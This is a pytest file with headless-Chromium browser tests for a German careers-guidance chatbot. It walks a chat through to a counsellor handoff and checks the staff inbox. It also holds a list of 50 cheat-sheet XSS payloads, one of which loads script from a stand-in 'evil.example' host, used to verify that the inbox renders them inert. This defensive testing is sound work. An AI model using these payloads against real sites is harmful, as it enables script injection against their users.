"""In real headless Chromium: a chat that ends in a handoff, then the counsellor's inbox.

Chromium is Debian's (/usr/bin/chromium, installed by scripts/ensure-chromium from
`make test`), driven by Playwright; no browser is downloaded. Without it these tests are
skipped with a message on a laptop and fail under CI=true.
"""

from __future__ import annotations

import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from bot.rate_limit import RateLimiter
from bot.reference import Reference
from bot.service import Lotse
from bot.storage.accounts import AccountRepository
from bot.storage.database import make_sessionmaker
from bot.storage.tables import OrganisationRow
from bot.web.app import create_app
from tests.conftest import TUESDAY_AFTERNOON, skip_or_fail

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
PASSWORD = "browser-test-passwort"
# 50 payloads from the usual XSS cheat sheets, each sent as a chat message.
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>klick</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=\"x\" onerror=\"alert(String.fromCharCode(88,83,83))\">", "<div style=\"background:url(javascript:alert(1))\">",
    "<style>@import 'javascript:alert(1)';</style>", "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<body onpageshow=alert(1)>", "<div onmouseover=alert(1)>x</div>",
    "<p onclick=alert(1)>klick</p>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<svg/onload=alert(1)>", "<img/src/onerror=alert(1)>", "\u202e<script>alert(1)</script>",
]
assert len(XSS) == 50


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if not CHROMIUM.exists():
        skip_or_fail("browser tests need Debian's Chromium at /usr/bin/chromium "
                     "(scripts/ensure-chromium installs it; `make test` runs that)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS, headless=True)
        yield chromium
        chromium.close()


@pytest.fixture
def server(sqlite_engine: Engine, reference: Reference) -> Iterator[str]:
    with Session(sqlite_engine) as session, session.begin():
        session.add(OrganisationRow(id="jba-harz", name="Jugendberufsagentur Harz (Beispiel)",
                                    offer_ids=["harz-jba-janalos", "harz-agentur-berufsberatung"],
                                    response_working_days=2))
        session.flush()
        AccountRepository(session).add_user(org_id="jba-harz", email="berta@example.org",
                                            password=PASSWORD)
    fuzzy = reference.fuzzy_backend()
    lotse = Lotse(sessions=make_sessionmaker(sqlite_engine), nlu=fuzzy, fallback_nlu=fuzzy,
                  offers=reference.offers, places=reference.places, secret=b"browser-test-secret",
                  clock=lambda: TUESDAY_AFTERNOON, limiter=RateLimiter("1000/minute"))
    port = _free_port()
    uv = uvicorn.Server(uvicorn.Config(create_app(lotse), host="127.0.0.1", port=port,
                                       log_level="warning", lifespan="on"))
    thread = threading.Thread(target=uv.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not uv.started and time.monotonic() < deadline:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    uv.should_exit = True
    thread.join(10)


def chat(page, text: str | None = None, button: str | None = None) -> None:  # type: ignore[no-untyped-def]
    """Type a message (or click a quick reply) in the widget and wait for Lotse's answer."""
    before = page.locator("#log li.bubble.bot").count()
    if button is not None:
        page.locator("#buttons button", has_text=button).first.click()
    else:
        page.fill("#message", text)
        page.press("#message", "Enter")
    # locators, not wait_for_function: the page's CSP rightly forbids eval
    page.locator("#log li.bubble.bot").nth(before).wait_for()
    page.locator("#composer:not([aria-busy])").wait_for()


def test_chat_handoff_then_counsellor_reads_sets_status_and_prints(browser, server: str) -> None:  # type: ignore[no-untyped-def]
    young = browser.new_page()
    dialogs: list[str] = []
    young.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    young.goto(server + "/")
    chat(young, "hi, ich bin 17, wohne in Quedlinburg und suche eine Ausbildung")
    answers = {"Schule": "ich geh noch zur schule", "Abschluss": "realschule",
               "Beruf": "weiß ich noch nicht", "Sprache": "deutsch"}
    for _ in range(6):
        if young.locator("#buttons button", has_text="soll sich melden").count():
            break
        last = young.locator("#log li.bubble.bot").last.inner_text()
        chat(young, next((a for k, a in answers.items() if k.lower() in last.lower()), "weiter"))
    chat(young, button="soll sich melden")
    assert "Zusammenfassung" in young.locator("#log li.bubble.bot").last.inner_text()
    chat(young, button="Ja, schick es")
    chat(young, button="Ich melde mich selbst")
    chat(young, "Bitte nachmittags, <b>danke</b>")
    bubbles = young.locator("#log li.bubble").all_inner_texts()
    done = next((b for b in reversed(bubbles) if "Dein Code" in b), "\n".join(bubbles[-12:]))
    code = re.search(r"LT-[2-9A-Z]{6}", done).group()
    assert "Jugendberufsagentur Harz (Beispiel)" in done  # "I will get in touch myself": no promise

    staff = browser.new_page()
    staff.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    staff.goto(server + "/berater/")
    staff.fill("#email", "berta@example.org")
    staff.fill("#password", PASSWORD)
    staff.click("button[type=submit]")
    staff.click(f"text={code}")
    said = " ".join(staff.locator(".transcript .msg.person").all_inner_texts())
    assert "wohne in Quedlinburg" in said and "Lotse (Bot)" in staff.locator(".transcript").inner_text()
    assert "Bitte nachmittags, <b>danke</b>" in staff.locator(".facts").inner_text()
    assert staff.locator(".facts b").count() == 0  # shown as text, not markup
    staff.select_option("#new-status", "contacted")
    staff.click("text=Status setzen")
    assert staff.locator("#status-now").inner_text() == "Kontakt aufgenommen"
    staff.click("text=Druckansicht")
    staff.emulate_media(media="print")
    assert not staff.locator("header.top").is_visible()
    assert staff.locator(".transcript").is_visible()
    pdf = staff.pdf()
    assert pdf.startswith(b"%PDF") and len(pdf) > 5000
    assert dialogs == []


def test_fifty_xss_payloads_are_inert_in_the_inbox(browser, server: str) -> None:  # type: ignore[no-untyped-def]
    page = browser.new_page()
    fired: list[str] = []
    page.on("dialog", lambda d: (fired.append(d.message), d.dismiss()))
    api = page.request

    def say(text: str) -> list[dict]:  # type: ignore[type-arg]
        response = api.post(server + "/webhooks/rest/webhook",
                            data=json.dumps({"sender": "xss", "message": text}),
                            headers={"content-type": "application/json"})
        assert response.status == 200
        return response.json()

    replies = say("hi ich bin 16 und suche eine ausbildung in quedlinburg")
    answers = {"school_status": "ich geh noch zur schule", "school_qualification": "realschule",
               "occupation": "weiß nicht", "languages": "deutsch"}
    while replies[-1].get("custom", {}).get("expects") in answers:
        replies = say(answers[replies[-1]["custom"]["expects"]])
    payload = next(b["payload"] for m in replies for b in m.get("buttons", [])
                   if "soll sich melden" in b["title"])
    for attack in XSS:
        say(attack)
    say(payload)
    say("ja")
    say('/inform{"contact_method": "self"}')
    code = re.search(r"LT-\w{6}", say(XSS[0])[0]["text"]).group()  # the note is an attack too

    page.goto(server + "/berater/login")
    page.fill("#email", "berta@example.org")
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    page.click(f"text={code}")
    page.wait_for_load_state("load")
    transcript = page.locator(".transcript").inner_text()
    for attack in XSS[:20]:
        assert attack.strip("\u202e") in transcript.replace("\n", "")  # shown as plain text
    injected = page.evaluate(
        "document.querySelectorAll('main script, main img, main svg, main iframe, main object, "
        "main embed, main video, main audio, main details, main marquee, main style, main meta, "
        "main base, main template, main input[autofocus], main a[href^=javascript]').length")
    assert injected == 0
    page.mouse.move(200, 300)
    page.click(".transcript")
    page.click("text=Druckansicht")
    time.sleep(0.3)  # give any handler a chance to fire
    assert fired == []
